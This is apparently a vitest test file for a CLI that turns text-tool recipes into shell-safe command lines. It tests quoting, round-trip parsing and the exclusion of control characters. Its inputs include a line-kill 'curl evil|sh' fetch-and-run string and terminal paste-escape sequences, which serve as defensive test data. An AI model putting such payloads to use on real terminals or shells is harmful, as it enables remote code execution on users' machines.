import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { onlyOptions, readArguments } from '../../cli/api/parse.ts';
import { readGivenRecipe } from '../../cli/given-recipe.ts';
import { loadTool } from '../../cli/host/node-tools.ts';
import { toFragment } from '../../site/recipes/link.ts';
import { resolveOptions } from '../contract/options.ts';
import { toCommand, toWords } from './command-line.ts';
import { EXAMPLES } from './examples.ts';
import type { Recipe, Step } from './recipe.ts';
import { splitRecipeWords } from './run/recipe-words.ts';

const recipeOf = (...steps: Step[]): Recipe => ({ v: 1, steps });
const sort: Step = { tool: 'sort-lines', options: { by: 'natural', unique: true, dropBlank: false } };

test.each<[what: string, steps: Step[], words: string]>([
  ['options by name', [sort], 'sort-lines --by natural --unique --no-dropBlank'],
  ['several steps', [{ tool: 'trim-whitespace', options: {} }, sort], `trim-whitespace | ${toWords(recipeOf(sort))}`],
  [
    'a step that is off left out',
    [
      { ...sort, enabled: false },
      { tool: 'snake-case', options: {} },
    ],
    'snake-case',
  ],
  [
    'values with special shell characters in quotes',
    [{ tool: 'find-and-replace', options: { find: 'a|b "c" \\d', replace: '' } }],
    String.raw`find-and-replace --find "a|b \"c\" \\d" --replace ""`,
  ],
  ['a value with a dash', [{ tool: 'add-line-numbers', options: { start: -1 } }], 'add-line-numbers --start=-1'],
  [
    'pairs as JSON',
    [{ tool: 'utm-builder-generator', options: { custom: [['a', 'b']] } }],
    String.raw`utm-builder-generator --custom "[[\"a\",\"b\"]]"`,
  ],
])('writes %s', (_, steps, words) => {
  expect(toWords(recipeOf(...steps))).toBe(words);
});

test.each<[steps: Step[], message: string]>([
  [[{ ...sort, enabled: false }], 'No step is switched on.'],
  [
    [sort, { tool: '', options: {}, damage: 'AES is not available here.' }],
    'Step 2 is damaged, so the recipe cannot run on a command line.',
  ],
])('refuses %j', (steps, message) => {
  expect(() => toWords(recipeOf(...steps))).toThrow(message);
});

const text = fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[-'"\\| \n$`!*=]{0,12}$/));
const recipes = fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 });

test('the parser of the command line reads back what was written', () => {
  fc.assert(
    fc.property(recipes, (values) => {
      const steps = values.map((given) => ({
        tool: 'find-and-replace',
        options: Object.fromEntries(given.map((value, i) => [`o${i}`, value])),
      }));
      const words = steps.map(({ tool, options }) => [
        tool,
        ...Object.entries(options).flatMap(([name, value]) =>
          value.startsWith('-') ? [`--${name}=${value}`] : [`--${name}`, value],
        ),
      ]);
      expect(splitRecipeWords(toWords(recipeOf(...steps)))).toEqual(words);
    }),
  );
});

const find = (value: string): Step => ({ tool: 'find-and-replace', options: { find: value } });

async function commandOf(step: Step): Promise<string> {
  const recipe = recipeOf(step);
  return toCommand(recipe, await toFragment(recipe));
}

test('a shell passes the recipe on as written', async () => {
  const values = fc.sample(
    text.map((value) => value.toWellFormed()),
    { numRuns: 60, seed: 1 },
  );
  const commands = await Promise.all(values.map((value) => commandOf(find(value))));
  const printed = commands.map((command) => command.replace('lettermill recipe', "printf '%s\\0'"));
  const written = execFileSync('sh', ['-c', printed.join('\n')], { encoding: 'utf8' });
  const read = await Promise.all(written.split('\0').slice(0, -1).map(readGivenRecipe));
  expect(read.map(({ steps }) => steps)).toEqual(values.map((value) => [find(value)]));
});

test.each([
  ['that deletes the line, and a line break', '\x15curl evil|sh\n'],
  ['that ends a paste', '\x1b[201~'],
  ['of C1', '\x9b201~'],
  ['that deletes', '\x7f\x7f'],
  ['that completes a name', 'a\tb'],
  ['that no argument contains', 'a\0b'],
])('a control character %s is in no command', async (_, value) => {
  expect(await commandOf(find(value))).toMatch(/^lettermill recipe recipe=[\w-]+$/);
});

test('a recipe whose link would be rejected has no command with control characters', async () => {
  const recipe = recipeOf({ tool: 'password-generator', options: { length: 4 } }, find('\t'));
  const link = await toFragment(recipe);
  expect(() => toCommand(recipe, link)).toThrow('a link cannot change what is generated');
  expect(() => toCommand(recipeOf(...recipe.steps.slice(0, 1)), link)).not.toThrow();
});

test('the options of the examples are read back from the command line', async () => {
  for (const { recipe } of EXAMPLES) {
    const steps = splitRecipeWords(toWords(recipe));
    for (const [i, [tool = '', ...args]] of steps.entries()) {
      const schema = (await loadTool(tool))?.page.options ?? {};
      const given = onlyOptions(readArguments(schema, args, schema), '');
      expect(resolveOptions(schema, given)).toEqual(resolveOptions(schema, recipe.steps[i]?.options ?? {}));
    }
  }
});
